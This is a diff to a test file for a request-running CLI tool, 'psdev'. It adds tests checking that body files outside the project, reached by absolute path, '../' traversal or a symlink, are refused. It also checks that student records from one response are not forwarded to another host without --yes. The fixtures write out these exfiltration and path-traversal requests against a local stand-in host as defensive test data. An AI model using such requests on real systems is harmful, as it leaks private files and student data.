@@ -1,7 +1,8 @@
 import * as assert from 'node:assert/strict';
-import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
+import { basename, join, resolve } from 'node:path';
+import { startOtherHost, type OtherHost } from '../../support/otherHost';
 import { startSandbox, type SandboxHandle } from '../../../src/sandbox';
 import { psdev } from '../../support/psdev';
 
@@ -78,5 +79,49 @@ describe('psdev run', () => {
     assert.match(result.stderr, /vars\.psreq:1:38: error: 'size' is not defined/);
     assert.match(result.stderr, /vars\.psreq:5:1: error: not sent: .*@confirm.*--yes/);
     assert.equal((await psdev(['run', file, '--yes', '--name', 'x'], env)).code, 2);
+  });
+
+  describe('what a file may send (issue 13, item 2)', () => {
+    let other: OtherHost;
+    before(async () => (other = await startOtherHost()));
+    after(() => other.close());
+    beforeEach(() => other.arrived.splice(0));
+
+    it('reads < file bodies only inside the file\'s folder tree unless --allow-outside', async () => {
+      const outside = mkdtempSync(join(tmpdir(), 'psdev-outside-'));
+      try {
+        writeFileSync(join(outside, 'secret.txt'), 'outside-secret');
+        const project = join(dir, 'project');
+        mkdirSync(join(project, 'bodies'), { recursive: true });
+        writeFileSync(join(project, 'bodies', 'ok.json'), '{"ok":1}');
+        symlinkSync(join(outside, 'secret.txt'), join(project, 'bodies', 'link.txt'));
+        const file = join(project, 'send.psreq');
+        writeFileSync(file, `POST ${other.url}/in\n\n< ./bodies/ok.json\n\n###\nPOST ${other.url}/abs\n\n< ${join(outside, 'secret.txt')}\n\n###\nPOST ${other.url}/up\n\n< ../../${basename(outside)}/secret.txt\n\n###\nPOST ${other.url}/link\n\n< ./bodies/link.txt\n`);
+        const refused = await psdev(['run', file], env);
+        assert.equal(refused.code, 1);
+        assert.deepEqual(other.arrived, [`POST /in {"ok":1}`]);
+        const errors = refused.stderr.split('\n').filter((line) => / error: /.test(line));
+        assert.equal(errors.length, 3, refused.stderr);
+        for (const line of errors) assert.match(line, /send\.psreq:\d+:3: error: not sent: the body file .*secret\.txt is outside .*project\. Pass --allow-outside to read it\.$/);
+        other.arrived.splice(0);
+        const allowed = await psdev(['run', file, '--allow-outside'], env);
+        assert.equal(allowed.code, 0, allowed.stderr);
+        assert.deepEqual(other.arrived.map((line) => line.split(' ').slice(1).join(' ')), ['/in {"ok":1}', '/abs outside-secret', '/up outside-secret', '/link outside-secret']);
+      } finally {
+        rmSync(outside, { recursive: true, force: true });
+      }
+    });
+
+    it('refuses data from a response to another host without --yes, naming the host', async () => {
+      const file = write('exfiltrate.psreq', `# @name students\nGET /ws/v1/district/student?pagesize=2\n\n###\nPOST ${other.url}/f\nContent-Type: application/json\n\n{{students.response.body.students}}\n`);
+      const refused = await psdev(['run', file], env);
+      assert.equal(refused.code, 1);
+      assert.match(refused.stderr, /exfiltrate\.psreq:5:1: error: not sent: This request sends data from the response of 'students' \(read from 'env'\) to 127\.0\.0\.2:\d+, another server\. \(pass --yes to send it\)/);
+      assert.deepEqual(other.arrived, []);
+      const sent = await psdev(['run', file, '--yes'], env);
+      assert.equal(sent.code, 0, sent.stderr);
+      assert.equal(other.arrived.length, 1);
+      assert.match(other.arrived[0], /^POST \/f \{.*"student":\[\{"id":\d+/);
+    });
   });
 });
